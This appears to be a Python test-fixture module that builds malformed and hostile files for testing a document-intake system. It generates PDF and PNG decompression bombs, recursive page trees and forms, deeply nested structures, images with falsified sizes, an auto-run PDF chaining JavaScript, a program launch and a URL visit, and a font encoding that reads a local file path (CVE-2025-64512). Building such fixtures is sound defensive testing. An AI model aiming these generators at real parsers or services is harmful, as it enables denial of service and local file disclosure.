"""Writes files made to hurt whoever opens them: bombs, loops, giants, lies. Nothing big is kept.

Each is a few kilobytes or is made in memory in well under a second.
"""

import io
import random
import struct
import zlib
from collections.abc import Sequence
from itertools import pairwise

import numpy as np
import pikepdf
from PIL import Image, TiffImagePlugin
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen.canvas import Canvas

MIB = 1024**2
WORDS = "OFICIO 123 de la UGEL Chota"
"""What the files that can be read say."""


def oficio(pages: int = 1, words: str = WORDS) -> bytes:
    """A plain PDF of `pages` pages, each of which says `words`."""
    out = io.BytesIO()
    canvas = Canvas(out, pagesize=A4, invariant=1)
    for _ in range(pages):
        canvas.drawString(72, 700, words)
        canvas.showPage()
    canvas.save()
    return out.getvalue()


# ------------------------------------------------------------------ raw PDFs


def pdf(objects: Sequence[bytes], extra: bytes = b"") -> bytes:
    """A PDF of the given objects, numbered from 1; the first is the catalogue."""
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root 1 0 R %b >>\n" % (len(objects) + 1, extra)
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % start)


def stream(data: bytes, entries: bytes = b"") -> bytes:
    """A stream object."""
    return b"<< /Length %d %b >>\nstream\n%b\nendstream" % (len(data), entries, data)


CATALOGUE = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def page(
    content: bytes, *more: bytes, box: bytes = b"0 0 595 842", resources: bytes = b""
) -> bytes:
    """One page with a ready content stream (object 4), a font (5) and `more` objects from 6 on."""
    leaf = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [%b] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> %b >> >>" % (box, resources)
    )
    return pdf([CATALOGUE, PAGES, leaf, content, FONT, *more])


def _text(words: str = WORDS) -> bytes:
    return b"BT /F1 12 Tf 72 700 Td (%b) Tj ET\n" % words.encode("latin-1")


# ------------------------------------------------------------------ bombs


def zeros(length: int) -> bytes:
    """A zlib stream of `length` zero bytes (a multiple of 1 MiB), built without deflating them."""
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = squeeze.compress(bytes(MIB)) + squeeze.flush(zlib.Z_FULL_FLUSH)
    check = struct.pack(">I", ((length % 65521) << 16) | 1)  # Adler-32 of zeros
    return b"\x78\xda" + block * (length // MIB) + b"\x03\x00" + check


def flate_bomb(length: int = 2048 * MIB) -> bytes:
    """A page whose drawing unpacks to `length` bytes (2 GiB from 2 MB)."""
    return page(stream(zeros(length), b"/Filter /FlateDecode"))


def nested_bomb(length: int = 2048 * MIB) -> bytes:
    """The same, packed twice: 2 GiB from 10 kB."""
    packed = zlib.compress(zeros(length), 9)
    return page(stream(packed, b"/Filter [/FlateDecode /FlateDecode]"))


def many_filters() -> bytes:
    """A drawing packed a hundred times over."""
    data = _text()
    for _ in range(100):
        data = zlib.compress(data)
    return page(stream(data, b"/Filter [%b]" % (b"/FlateDecode " * 100)))


def picture_bomb() -> bytes:
    """A page that is one picture of 60,000 by 60,000 points."""
    entries = (
        b"/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceGray "
        b"/BitsPerComponent 8 /Filter /FlateDecode"
    )
    draw = stream(b"q 595 0 0 842 0 0 cm /Im Do Q")
    return page(draw, stream(zeros(60 * MIB), entries), resources=b"/XObject << /Im 6 0 R >>")


def font_bomb() -> bytes:
    """A page whose font brings a character map that unpacks to 1 GiB."""
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 6 0 R >>"
    leaf = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>"
    )
    charmap = stream(zeros(1024 * MIB), b"/Filter /FlateDecode")
    return pdf([CATALOGUE, PAGES, leaf, stream(_text()), font, charmap])


def xref_bomb() -> bytes:
    """A PDF whose table of objects itself unpacks to 2 GiB."""
    table = stream(
        zeros(2048 * MIB),
        b"/Type /XRef /Size 1000 /W [1 2 1] /Root 1 0 R /Filter /FlateDecode",
    )
    body = b"%%PDF-1.7\n1 0 obj\n%b\nendobj\n" % CATALOGUE
    return b"%b9 0 obj\n%b\nendobj\nstartxref\n%d\n%%%%EOF\n" % (body, table, len(body))


# ------------------------------------------------------------------ loops and giants


def page_tree_loop() -> bytes:
    """A tree of pages that is its own child."""
    return pdf(
        [
            CATALOGUE,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>",
        ]
    )


def many_pages(count: int = 10_000) -> bytes:
    """A PDF of 10,000 small pages."""
    kids = b" ".join(b"%d 0 R" % n for n in range(3, count + 3))
    tree = b"<< /Type /Pages /Kids [%b] /Count %d >>" % (kids, count)
    leaf = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
    return pdf([CATALOGUE, tree, *([leaf] * count)])


def giant_page() -> bytes:
    """A page of 200 by 200 inches."""
    return page(stream(_text()), box=b"0 0 14400 14400")


def scaled_page() -> bytes:
    """A page of A4 that says its unit is a hundred times the usual one."""
    leaf = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /UserUnit 100 >>"
    return pdf([CATALOGUE, PAGES, leaf])


def rulings(count: int = 30_000) -> bytes:
    """A page of words over `count` pale ruled lines, as many across as down.

    Under black ones nobody would see the words, and what nobody sees is not read.
    """
    rng = random.Random(7)
    lines = []
    for number in range(count):
        x, y = rng.uniform(0, 595), rng.uniform(0, 842)
        lines.append(
            f"0 {y:.2f} m 595 {y:.2f} l S" if number % 2 else f"{x:.2f} 0 m {x:.2f} 842 l S"
        )
    return page(stream("\n".join(["0.9 G", *lines, ""]).encode() + _text()))


def many_words(count: int = 300_000) -> bytes:
    """A page of `count` words."""
    rows = (f"1 0 0 1 {20 + n % 90 * 6} {20 + n // 90 % 800} Tm (ab) Tj" for n in range(count))
    drawn = b"BT /F1 1 Tf " + "\n".join(rows).encode() + b" ET"
    return page(stream(zlib.compress(drawn), b"/Filter /FlateDecode"))


def deep_states(depth: int = 200_000) -> bytes:
    """A drawing whose state is saved `depth` times before the words."""
    return page(stream(b"q " * depth + _text() + b"Q " * depth))


def deep_arrays(depth: int = 100_000) -> bytes:
    """A drawing that opens `depth` arrays one in another."""
    return page(stream(b"[" * depth + b"]" * depth + b" TJ\n" + _text()))


def deep_catalogue(depth: int = 100_000) -> bytes:
    """A catalogue of arrays in arrays."""
    nest = b"<< /Type /Catalog /Pages 2 0 R /X " + b"[" * depth + b"]" * depth + b" >>"
    leaf = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
    return pdf([nest, PAGES, leaf])


def recursive_form() -> bytes:
    """A form that draws itself."""
    form = stream(
        b"/Me Do",
        b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] "
        b"/Resources << /XObject << /Me 6 0 R >> >>",
    )
    return page(stream(_text() + b"/Me Do"), form, resources=b"/XObject << /Me 6 0 R >>")


def form_tree(depth: int = 40) -> bytes:
    """Forms that each draw the next one twice: 2 to the power of `depth` drawings."""
    forms = [
        stream(
            b"/N Do /N Do",
            b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] "
            b"/Resources << /XObject << /N %d 0 R >> >>" % after,
        )
        for _, after in pairwise(range(6, 6 + depth))
    ]
    last = stream(b"0 0 m 9 9 l S", b"/Type /XObject /Subtype /Form /BBox [0 0 595 842]")
    return page(stream(_text() + b"/N Do"), *forms, last, resources=b"/XObject << /N 6 0 R >>")


def garbage_picture(codec: str) -> bytes:
    """A page that is one picture whose data is no picture: ``JBIG2Decode`` or ``JPXDecode``."""
    noise = random.Random(3).randbytes(20_000)
    entries = (
        b"/Type /XObject /Subtype /Image /Width 2480 /Height 3508 /ColorSpace /DeviceGray "
        b"/BitsPerComponent %d /Filter /%b" % (1 if codec == "JBIG2Decode" else 8, codec.encode())
    )
    draw = stream(b"q 595 0 0 842 0 0 cm /Im Do Q")
    return page(draw, stream(noise, entries), resources=b"/XObject << /Im 6 0 R >>")


# ------------------------------------------------------------------ pictures


def declared_png(width: int, height: int) -> bytes:
    """A PNG that declares a size and holds next to nothing."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
        )

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    body = zeros(8 * MIB)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def declared_jpeg(width: int, height: int) -> bytes:
    """A JPEG of eight points whose header declares a size."""
    out = io.BytesIO()
    Image.new("L", (8, 8), 255).save(out, "jpeg")
    data = bytearray(out.getvalue())
    at = data.index(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def declared_tiff(width: int, height: int) -> bytes:
    """A TIFF that declares a size and holds eight points."""
    tags = TiffImagePlugin.ImageFileDirectory_v2()
    out = io.BytesIO()
    Image.new("L", (8, 8), 255).save(out, "tiff", tiffinfo=tags)
    data = out.getvalue()
    for tag, value in ((256, width), (257, height)):
        for kind in (3, 4):
            old = struct.pack("<HHI", tag, kind, 1)
            if old in data:
                at = data.index(old)
                data = data[:at] + struct.pack("<HHII", tag, 4, 1, value) + data[at + 12 :]
    return data


def noise_picture(side: int = 900) -> bytes:
    """A PNG of noise: much to recognise, nothing to read."""
    rng = np.random.default_rng(5)
    out = io.BytesIO()
    Image.fromarray(rng.integers(0, 256, (side, side), dtype=np.uint8)).save(out, "png")
    return out.getvalue()


# ------------------------------------------------------------------ locks, lies, orders


def encrypted(user: str) -> bytes:
    """The oficio under a user's password; an empty one locks nothing."""
    out = io.BytesIO()
    lock = pikepdf.Encryption(user=user, owner="dueño", R=6)
    with pikepdf.open(io.BytesIO(oficio())) as opened:
        opened.save(out, encryption=lock)
    return out.getvalue()


def active() -> bytes:
    """The oficio with JavaScript, a program to start and an address to visit upon opening."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(oficio())) as opened:
        orders = [
            pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")),
            pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("/bin/true")),
            pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("http://192.0.2.1/")),
        ]
        orders[0].Next = pikepdf.Array(orders[1:])
        opened.Root.OpenAction = opened.make_indirect(orders[0])
        opened.save(out)
    return out.getvalue()


def charmap_of(path: str) -> bytes:
    """A page whose font names a file of this machine as its character map (CVE-2025-64512)."""
    name = "".join(f"#{byte:02x}" for byte in path.encode())
    font = (
        b"<< /Type /Font /Subtype /Type0 /BaseFont /Evil /Encoding /%b "
        b"/DescendantFonts [6 0 R] >>" % name.encode()
    )
    under = (
        b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /Evil /CIDSystemInfo "
        b"<< /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> /FontDescriptor 7 0 R >>"
    )
    about = (
        b"<< /Type /FontDescriptor /FontName /Evil /Flags 4 /FontBBox [0 0 1 1] /ItalicAngle 0 "
        b"/Ascent 1 /Descent 0 /CapHeight 1 /StemV 1 >>"
    )
    leaf = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>"
    )
    return pdf([CATALOGUE, PAGES, leaf, stream(_text()), font, under, about])


def noise(length: int) -> bytes:
    """Bytes of chance."""
    return random.Random(11).randbytes(length)


def saved(data: bytes, form: str) -> bytes:
    """A PDF written anew: ``plain`` as it is, ``linear`` for the web, ``packed`` in streams."""
    out = io.BytesIO()
    packed = pikepdf.ObjectStreamMode.generate
    kept = pikepdf.ObjectStreamMode.preserve
    with pikepdf.open(io.BytesIO(data)) as opened:
        opened.save(
            out,
            linearize=form == "linear",
            object_stream_mode=packed if form == "packed" else kept,
            deterministic_id=True,
        )
    return data if form == "plain" else out.getvalue()
